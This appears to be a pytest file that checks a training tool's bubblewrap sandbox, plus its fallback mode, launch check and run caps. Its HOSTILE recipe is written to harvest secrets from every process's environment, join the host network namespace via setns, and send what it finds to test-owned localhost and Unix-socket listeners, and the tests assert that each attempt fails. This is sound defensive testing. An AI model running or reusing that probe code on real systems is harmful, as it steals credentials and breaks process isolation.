"""Recipe code against its sandbox: what a hostile recipe tries, from the launch check and from
the run, and what it gets.

One hostile recipe, launched once through the MCP tools, reads every process's environment,
joins the host's network namespace through ``/proc/1/ns/net`` (or the server's
``/proc/<pid>/ns/net``, where pid 1 is out of reach) and sends what it found to a
listener on the host's 127.0.0.1, to a Unix socket beside the workspace and to an abstract Unix
socket. Where bubblewrap works the run reports ``isolation: full`` and every attempt fails;
where it cannot (``TRAINWRIGHT_BWRAP`` pointing nowhere here), runs fall back and say so.
The launch check gets the run's memory limit and leaves no process behind.
"""

from __future__ import annotations

import datetime
import json
import os
import secrets
import socket
import sys
import threading
import time

import pytest

from engine import run_dir as rd
from workspace.workspace import records_root
from mcp_server.operations import launch as launching
from mcp_server.operations import runs as run_ops
from mcp_server.server import build_server
from sandbox import bwrap
from runner import lifecycle as run_lifecycle
from runner.capacity import check_capacity
from workspace.settings import ConfigRefused, RunLimits, capacity, limits_from_mapping
from workspace.workspace import Workspace
from tests.sandbox.helpers import (
    derived_recipe, fake_run, live_client, make_workspace, processes_with_argument, supervise, tree_hash,
    wait_final,
)
from tests.support import TINY

BWRAP_WORKS = bwrap.probe(bwrap.find_bwrap()) is None
needs_bwrap = pytest.mark.skipif(not BWRAP_WORKS, reason=f"bubblewrap cannot run here: {bwrap.probe(bwrap.find_bwrap())}")
SECRET = "tw-contain-" + secrets.token_hex(12)
MISSING_BWRAP = "/nonexistent/bwrap"

HOSTILE = '''
import ctypes, json, os, socket


def _environs():
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                data = open(f"/proc/{name}/environ", "rb").read()
            except OSError:
                continue
            found += [item.decode(errors="replace") for item in data.split(b"\\0") if b"TW_CONTAIN" in item]
    return found


def _try(action):
    try:
        return "ok " + str(action())
    except OSError as e:
        return f"refused {e.errno}"


def _setns(path):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = os.open(path, os.O_RDONLY)
    if libc.setns(fd, 0x40000000) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    return "joined the host's network"


def _send(family, address, payload):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(address)
        s.sendall(payload)
    return "sent"


SEEN = _environs()
PAYLOAD = json.dumps(SEEN).encode() + b"\\n"
REPORT = {
    "secrets": SEEN,
    "processes": sum(name.isdigit() for name in os.listdir("/proc")),
    "setns": _try(lambda: _setns("/proc/1/ns/net")),
    "setns_server": _try(lambda: _setns(f"/proc/{SERVER_PID}/ns/net")),
    "tcp": _try(lambda: _send(socket.AF_INET, ("127.0.0.1", PORT), PAYLOAD)),
    "unix": _try(lambda: _send(socket.AF_UNIX, UNIX, PAYLOAD)),
    "abstract": _try(lambda: _send(socket.AF_UNIX, ABSTRACT, PAYLOAD)),
    # The workspace's own state: git's, trainwright's (audit log, settings) and the runs'.
    "state": {name: sorted(os.listdir(name)) if os.path.isdir(name) else None
              for name in (".git", ".trainwright", "runs")},
}
print("PROBE " + json.dumps(REPORT), flush=True)


class Hostile(CausalLM):
    pass
'''


class Listener:
    """A host-side server socket that records every connection and what it was sent."""

    def __init__(self, family: int, address):
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.bind(address)
        self.sock.listen(16)
        self.address = self.sock.getsockname()
        self.received: list[bytes] = []
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.settimeout(3)
                try:
                    self.received.append(conn.recv(1 << 16))
                except OSError:
                    pass

    def close(self):
        self.sock.close()


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """The hostile recipe launched once (check and run) with a secret in the server's environment."""
    base = tmp_path_factory.mktemp("containment")
    workspace = make_workspace(base / "ws")
    tcp = Listener(socket.AF_INET, ("127.0.0.1", 0))
    unix = Listener(socket.AF_UNIX, str(base / "host.sock"))  # beside the workspace, not in it
    abstract_name = f"\0trainwright-test-{secrets.token_hex(6)}"  # per network namespace, no file
    abstract = Listener(socket.AF_UNIX, abstract_name)
    derived_recipe(workspace, "hostile", (
        f"PORT, UNIX, ABSTRACT, SERVER_PID = {tcp.address[1]}, {unix.address!r}, {abstract_name!r}, {os.getpid()}\n" + HOSTILE))
    os.environ["TW_CONTAIN_SERVICE_TOKEN"] = SECRET
    try:
        with live_client(build_server(workspace)) as client:
            result = client.call("launch_run", {"recipe": "recipes/hostile", "overrides": {
                **dict(item.split("=", 1) for item in TINY), "train.max_steps": 2, "checkpoint.every": 0}})
            launched = "".join(getattr(part, "text", "") for part in result.content)
            if result.is_error:
                yield {"launch_error": launched, "tcp": tcp, "unix": unix, "abstract": abstract}
                return
            run_id = result.structured_content["run_id"]
            run_dir = workspace / "runs" / run_id
            record = wait_final(run_dir)
            info = client.call("get_run", {"run_id": run_id})
            log = client.read_resource(f"run://{run_id}/log")
        console = (run_dir / rd.CONSOLE_LOG).read_text(errors="replace")
        probes = [json.loads(line[len("PROBE "):]) for line in console.splitlines() if line.startswith("PROBE ")]
        yield {"launch_error": None, "record": record, "console": console, "probes": probes,
               "info": info.structured_content, "info_text": json.dumps(info.structured_content),
               "log": "".join(getattr(c, "text", "") for c in log.contents),
               "tcp": tcp, "unix": unix, "abstract": abstract}
    finally:
        del os.environ["TW_CONTAIN_SERVICE_TOKEN"]
        for listener in (tcp, unix, abstract):
            listener.close()


def launched(hostile_run) -> dict:
    assert hostile_run["launch_error"] is None, f"the launch was refused: {hostile_run['launch_error'][:2000]}"
    assert hostile_run["probes"], "the recipe's probe did not run"
    return hostile_run


@needs_bwrap
def test_recipe_code_sees_no_git_trainwright_or_other_runs_folders(hostile_run, tmp_path):
    for probe in launched(hostile_run)["probes"]:  # the check's and the run's
        state = probe["state"]
        # Of .trainwright/ only the tokenized-data cache is bound in (SECURITY.md).
        assert state[".git"] == [] and state[".trainwright"] in ([], ["data-cache"]), state
        # Under runs/ only the run's own directory exists (the check sees none).
        assert len(state["runs"]) <= 1, state["runs"]


@needs_bwrap
def test_recipe_code_cannot_read_the_servers_environment(hostile_run):
    run = launched(hostile_run)
    assert run["record"].status == rd.COMPLETED, run["record"].error
    for seen in run["probes"]:
        assert seen["secrets"] == [], "recipe code read another process's environment"
        assert seen["processes"] < 10, f"the run sees {seen['processes']} processes: not a PID namespace of its own"
    for text in (run["console"], run["info_text"], run["log"]):
        assert SECRET not in text


@needs_bwrap
def test_setns_into_the_hosts_network_fails_and_host_loopback_is_not_reached(hostile_run):
    run = launched(hostile_run)
    for seen in run["probes"]:
        assert seen["setns"].startswith("refused"), seen["setns"]
        assert seen["setns_server"].startswith("refused"), seen["setns_server"]
        assert seen["tcp"].startswith("refused"), seen["tcp"]
    assert run["tcp"].connections == 0, "recipe code (check or run) reached a listener on the host's 127.0.0.1"


@needs_bwrap
def test_host_unix_sockets_are_not_reachable(hostile_run):
    run = launched(hostile_run)
    for seen in run["probes"]:
        assert seen["unix"].startswith("refused") and seen["abstract"].startswith("refused"), seen
    assert run["unix"].connections == 0 and run["abstract"].connections == 0
    assert not any(SECRET.encode() in data for data in run["unix"].received + run["abstract"].received)


@needs_bwrap
def test_get_run_reports_full_isolation_and_the_console_says_it_once(hostile_run):
    run = launched(hostile_run)
    assert run["info"]["isolation"] == "full" and run["info"]["network_isolated"] is True
    assert "PID" in run["info"]["isolation_note"] and "no capabilities" in run["info"]["isolation_note"]
    assert run["console"].count("[trainwright] isolation: full") == 1


# ---------------------------------------------------------------------------------------------
# The fallback: no bubblewrap
# ---------------------------------------------------------------------------------------------

COUNT_PROCESSES = "import os; print('PROCESSES', sum(n.isdigit() for n in os.listdir('/proc')), flush=True)"


def test_without_bubblewrap_a_run_falls_back_and_reports_partial(tmp_path):
    workspace = make_workspace(tmp_path / "ws")
    run_dir = workspace / "runs" / "20260101-000000-fallback-0000"
    supervise(run_dir, [sys.executable, "-c", COUNT_PROCESSES], {"network": "isolated"},
              run_id=run_dir.name, sandbox={"bwrap": MISSING_BWRAP}).wait(60)
    record = wait_final(run_dir)
    info = run_ops.get_run(Workspace.open(workspace), run_dir.name)
    console = (run_dir / rd.CONSOLE_LOG).read_text()
    assert record.status == rd.COMPLETED
    expected = "partial" if record.network_isolated else "none"  # the network namespace may be refused too
    assert info.isolation == expected and info.network_isolated == record.network_isolated
    assert f"{MISSING_BWRAP} not found" in info.isolation_note and "no PID namespace" in info.isolation_note
    assert console.count(f"[trainwright] isolation: {expected}") == 1
    processes = int(console.split("PROCESSES ")[1].split()[0])
    assert processes > 10, "without the sandbox the run sees the host's processes (and the report says so)"


def test_without_bubblewrap_and_with_shared_network_isolation_is_none(tmp_path):
    run_dir = tmp_path / "run"
    # The server recorded no bubblewrap (TRAINWRIGHT_BWRAP empty): the supervisor does not look for one.
    supervise(run_dir, [sys.executable, "-c", "print('hello')"], {"network": "shared"},
              sandbox={"bwrap": None}).wait(60)
    record = wait_final(run_dir)
    assert record.status == rd.COMPLETED
    assert record.isolation == "none" and record.network_isolated is False
    assert "disabled" in record.isolation_note
    assert "the network is the host's" in record.isolation_note


@needs_bwrap
def test_bubblewrap_with_shared_network_is_partial_and_says_what_is_missing(tmp_path):
    run_dir = tmp_path / "run"
    supervise(run_dir, [sys.executable, "-c", "print('hello')"], {"network": "shared"}).wait(60)
    record = wait_final(run_dir)
    assert record.status == rd.COMPLETED and record.isolation == "partial"
    assert "missing: network isolation" in record.isolation_note


def test_the_bubblewrap_binary_comes_from_the_servers_environment(monkeypatch):
    monkeypatch.setenv(bwrap.BWRAP_VARIABLE, MISSING_BWRAP)
    wrapped = bwrap.wrap(["true"], [], [])
    assert not wrapped.sandboxed and wrapped.command == ["true"] and MISSING_BWRAP in wrapped.reason
    monkeypatch.setenv(bwrap.BWRAP_VARIABLE, "")
    assert "disabled" in bwrap.wrap(["true"], [], []).reason


# ---------------------------------------------------------------------------------------------
# The launch check
# ---------------------------------------------------------------------------------------------

MODES = [pytest.param(None, marks=needs_bwrap, id="sandbox"), pytest.param(MISSING_BWRAP, id="fallback")]


@pytest.fixture
def check_ws(tmp_path, request, monkeypatch):
    if request.param is not None:
        monkeypatch.setenv(bwrap.BWRAP_VARIABLE, request.param)
    return make_workspace(tmp_path / "ws")


@pytest.mark.parametrize("check_ws", MODES, indirect=True)
def test_the_check_gets_the_runs_memory_limit(check_ws):
    (check_ws / ".trainwright" / "config.yaml").write_text("runs:\n  threads_per_process: 1\n  max_memory: 6GiB\n")
    derived_recipe(check_ws, "greedy", (
        "import mmap\n\n"
        "# 9 GiB of address space (MAP_NORESERVE: no memory is used unless touched)\n"
        "RESERVED = mmap.mmap(-1, 9 * 2**30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)\n\n\n"
        "class Greedy(CausalLM):\n    pass\n"
    ))
    ws = Workspace.open(check_ws)
    before = tree_hash(check_ws)
    with pytest.raises(run_lifecycle.LaunchRefused, match="Cannot allocate memory|MemoryError"):
        launching.launch_run(ws, "recipes/greedy", 1, list(TINY))
    assert tree_hash(check_ws) == before and not (check_ws / "runs").exists()


@pytest.mark.parametrize("check_ws", MODES, indirect=True)
def test_a_helper_forked_during_the_check_does_not_outlive_it(check_ws):
    token = f"600.{secrets.randbelow(10**6):06d}"
    derived_recipe(check_ws, "forking", (
        "import subprocess\n\n"
        f"subprocess.Popen(['sleep', '{token}'], start_new_session=True, stdout=subprocess.DEVNULL,\n"
        "                 stderr=subprocess.DEVNULL)\n\n\n"
        "class Forking(CausalLM):\n    pass\n"
    ))
    verdict = run_lifecycle.check_launch(check_ws, check_ws / "recipes" / "forking", 1, list(TINY))
    assert verdict.config["model"]["hidden_size"] == 64
    deadline = time.monotonic() + 5
    while processes_with_argument(token) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert processes_with_argument(token) == set(), "a process started by the check outlived it"


@pytest.mark.parametrize("check_ws", MODES, indirect=True)
def test_a_helper_holding_stdout_does_not_make_the_check_wait(check_ws):
    token = f"60.{secrets.randbelow(10**6):06d}"
    derived_recipe(check_ws, "holding", (
        "import subprocess\n\n"
        f"subprocess.Popen(['sleep', '{token}'])  # inherits stdout and stderr and keeps them open\n\n\n"
        "class Holding(CausalLM):\n    pass\n"
    ))
    started = time.monotonic()
    run_lifecycle.check_launch(check_ws, check_ws / "recipes" / "holding", 1, list(TINY))
    assert time.monotonic() - started < 40, "the check waited for a helper that held its output"
    assert processes_with_argument(token) == set()


# ---------------------------------------------------------------------------------------------
# Caps on concurrent runs and processes
# ---------------------------------------------------------------------------------------------


def test_a_launch_over_the_cap_on_concurrent_runs_is_refused_naming_the_running_runs(tmp_path):
    workspace = make_workspace(tmp_path / "ws", "runs:\n  max_concurrent_runs: 2\n")
    for i in range(2):  # alive: their "supervisor" is this process
        fake_run(workspace, f"20260101-00000{i}-lm-busy", status=rd.RUNNING, pid=os.getpid())
    fake_run(workspace, "20260101-000009-lm-done")
    before = tree_hash(workspace)
    with pytest.raises(run_lifecycle.LaunchRefused) as refused:
        launching.launch_run(Workspace.open(workspace), "recipes/lm", 1, list(TINY))
    message = str(refused.value)
    assert "runs.max_concurrent_runs is 2" in message
    assert "20260101-000000-lm-busy" in message and "20260101-000001-lm-busy" in message
    assert "lm-done" not in message and "stop_run" in message
    assert tree_hash(workspace) == before


def test_a_launch_over_the_cap_on_processes_is_refused(tmp_path):
    workspace = make_workspace(tmp_path / "ws", "runs:\n  max_total_processes: 4\n")
    fake_run(workspace, "20260101-000000-lm-wide", status=rd.RUNNING, pid=os.getpid(), nproc=3)
    fake_run(workspace, "20260101-000001-lm-dead", status=rd.RUNNING, pid=2**22 + 1, nproc=3)  # supervisor gone
    an_hour_ago = (datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(hours=1)).isoformat()
    fake_run(workspace, "20260101-000002-lm-stale", status=rd.STARTING, pid=None, nproc=3,
             created_at=an_hour_ago)  # never got a supervisor
    records = records_root(workspace)
    with pytest.raises(run_lifecycle.LaunchRefused, match=r"to 5 training processes and runs.max_total_processes is 4"):
        check_capacity(records, 2, Workspace.open(workspace).run_limits())
    check_capacity(records, 1, Workspace.open(workspace).run_limits())  # 4 fits


def test_the_caps_default_from_the_core_count_and_are_checked():
    cores = len(os.sched_getaffinity(0))
    assert capacity(RunLimits()) == (2 * cores, 4 * cores)
    assert limits_from_mapping({"max_concurrent_runs": 3, "max_total_processes": 5}).max_total_processes == 5
    for bad in (0, -1, "two", 1.5, True):
        with pytest.raises(ConfigRefused, match="runs.max_concurrent_runs"):
            limits_from_mapping({"max_concurrent_runs": bad})
